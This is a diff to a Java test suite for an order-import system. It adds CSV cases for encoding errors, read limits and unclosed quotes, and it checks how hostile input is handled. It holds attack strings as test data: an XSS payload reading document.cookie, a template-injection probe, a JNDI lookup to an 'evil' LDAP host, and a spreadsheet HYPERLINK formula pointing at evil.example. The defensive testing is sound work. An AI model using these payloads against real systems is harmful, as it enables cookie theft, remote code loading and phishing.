@@ -128,6 +128,22 @@ class HostileInputTest {
                 rejectedWhole("order-over-size-limit-in-array.json",
                         "beyond the read limits: the order at index 1 is longer than 2000000 bytes"),
 
+                // CSV: read in the charset of its layout (UTF-8 here) and checked whole, with the same read limits
+                rejectedWhole("csv-utf16-le-with-bom.csv", "the file is UTF-16LE text, not UTF-8 (the charset of its"
+                        + " CSV layout): save it as UTF-8 or change the layout's charset"),
+                rejectedWhole("csv-utf16-be.csv", "the file is UTF-16BE text, not UTF-8 (the charset of its CSV"
+                        + " layout): save it as UTF-8 or change the layout's charset"),
+                rejectedWhole("csv-invalid-utf8.csv", "the file is not UTF-8 text (the charset of its CSV layout):"
+                        + " line 3 holds a byte that is not UTF-8"),
+                rejectedWhole("csv-quote-never-closed.csv",
+                        "not valid CSV in the row starting at line 3: Missing closing quote for value"),
+                // the length Jackson gives is where it stopped reading, which depends on its buffers
+                rejectedWhole("csv-value-of-3MB.csv", "beyond the read limits: String value length ("),
+                rejectedWhole("csv-row-of-3-million-delimiters.csv", "beyond the read limits: Row length exceeds the"
+                        + " maximum allowed (2000000 characters), in the row starting at line 2"),
+                rejectedWhole("csv-order-of-30000-rows.csv",
+                        "beyond the read limits: the order at line 3 is longer than 2000000 characters"),
+
                 // ignored: never read, left in the inbox as they are
                 ignored(".hidden.json"),
                 ignored("upload.json.part"),
@@ -216,6 +232,9 @@ class HostileInputTest {
                                 "<script>alert(document.cookie)</script><img src=x onerror=alert(1)> {{7*7}}"
                                         + " ${jndi:ldap://evil/x}")),
                 receipt("sql-injection-in-external-id.json", "index 0 created"),
+                receipt("csv-formula-injection.csv", "line 2 created")
+                        .sent(order -> assertThat(order.at("/orderNotes/0/note").asText())
+                                .isEqualTo("=HYPERLINK(\"http://evil.example/x\",\"click\")")),
                 receipt("emoji-in-external-id.json", "index 0 created"),
                 receipt("lone-surrogate-in-external-id.json", "index 0 rejected: externalOrderIds[0]: holds a broken"
                         + " character (an unpaired UTF-16 surrogate \\udc00)"),
